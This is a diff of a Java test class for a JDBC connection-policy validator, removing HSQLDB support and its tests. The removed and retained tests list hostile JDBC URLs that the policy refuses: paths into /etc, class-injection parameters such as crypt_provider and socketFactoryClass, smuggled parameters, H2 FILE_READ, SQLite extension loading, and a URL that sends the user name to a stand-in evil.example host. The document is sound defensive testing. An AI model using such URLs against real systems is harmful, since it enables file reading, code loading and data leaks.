@@ -32,7 +32,6 @@ class ConnectionPolicyTest {
   private static final Driver POSTGRESQL = driver("org.postgresql.Driver");
   private static final Driver H2 = driver("org.h2.Driver");
   private static final Driver SQLITE = driver("org.sqlite.JDBC");
-  private static final Driver HSQLDB = driver("org.hsqldb.jdbc.JDBCDriver");
 
   @TempDir Path folder;
 
@@ -227,25 +226,6 @@ class ConnectionPolicyTest {
   @ParameterizedTest
   @ValueSource(
       strings = {
-        "jdbc:hsqldb:file:/etc/a",
-        "jdbc:hsqldb:/etc/a",
-        "jdbc:hsqldb:res:/a",
-        "jdbc:hsqldb:hsql:/etc/a",
-        "jdbc:hsqldb:~/a",
-        "jdbc:hsqldb:hsql://${user.name}.evil.example/a",
-        "jdbc:hsqldb:mem:a;crypt_provider=x",
-        "jdbc:hsqldb:mem:a;b=\\;crypt_provider=x",
-        "jdbc:hsqldb:mem:a; storage_class_name =x",
-        "jdbc:hsqldb:mem:a;hsqldb.temp_directory=/etc"
-      })
-  @DisplayName("C10_6 files, classes and system properties in HSQLDB's URL are refused")
-  void whatHarmsTheWorkerIsRefusedOfHsqldb(String url) {
-    assertForbidden(url, HSQLDB);
-  }
-
-  @ParameterizedTest
-  @ValueSource(
-      strings = {
         "jdbc:sqlserver://db;socketFactoryClass=x",
         "jdbc:sqlserver://db; TrustManagerClass = {x}",
         "jdbc:sqlserver://db;trustManagerConstructorArg=x",
@@ -288,7 +268,6 @@ class ConnectionPolicyTest {
     "jdbc:h2:mem:a, init, x",
     "jdbc:h2:mem:a, LOCK_TIMEOUT, FILE_READ('x')",
     "jdbc:sqlite::memory:, enable_load_extension, true",
-    "jdbc:hsqldb:mem:a, crypt_provider, x",
     "jdbc:sqlserver://db, socketFactoryClass, x",
     "jdbc:logging:mysql://db/fleet, idTokenFile, x"
   })
@@ -331,8 +310,6 @@ class ConnectionPolicyTest {
         "jdbc:h2:tcp://db:9092/mem:a;NON_KEYWORDS=VALUE,USER;USER=sa;PASSWORD=a(b)\\;c",
         "jdbc:sqlite::memory:?journal_mode=WAL&synchronous=OFF",
         "jdbc:sqlite:",
-        "jdbc:hsqldb:mem:a;shutdown=true",
-        "jdbc:hsqldb:hsql://db:9001/a",
         "jdbc:sqlserver://db;databaseName=fleet;encrypt=true;trustStore=/etc/t;trustStorePassword=p",
         "jdbc:sqlserver://db;authentication=SqlPassword;integratedSecurity=false",
         "jdbc:oracle:thin:@tcps://db:2484/s?ssl_server_dn_match=true",
@@ -507,7 +484,7 @@ class ConnectionPolicyTest {
   }
 
   @Test
-  @DisplayName("C10_6 SQLite's, H2's and HSQLDB's files are those of the folders that are listed")
+  @DisplayName("C10_6 SQLite's and H2's files are those of the folders that are listed")
   void filesAreInListedFolders() throws IOException {
     Path listed = Files.createDirectory(folder.resolve("listed"));
     Path other = Files.createDirectory(folder.resolve("other"));
@@ -521,7 +498,6 @@ class ConnectionPolicyTest {
     assertPermitted(policy, "jdbc:sqlite:" + listed + "/a.db?journal_mode=WAL", SQLITE);
     assertPermitted(policy, "jdbc:h2:" + listed + "/a;DB_CLOSE_DELAY=-1", H2);
     assertPermitted(policy, "jdbc:h2:file:" + listed + "/a", H2);
-    assertPermitted(policy, "jdbc:hsqldb:file:" + listed + "/a;shutdown=true", HSQLDB);
     for (String file :
         new String[] {
           other + "/a.db",
@@ -648,7 +624,6 @@ class ConnectionPolicyTest {
       case POSTGRESQL -> POSTGRESQL;
       case H2 -> H2;
       case SQLITE -> SQLITE;
-      case HSQLDB -> HSQLDB;
       case OTHER -> new LoggingDriver();
     };
   }
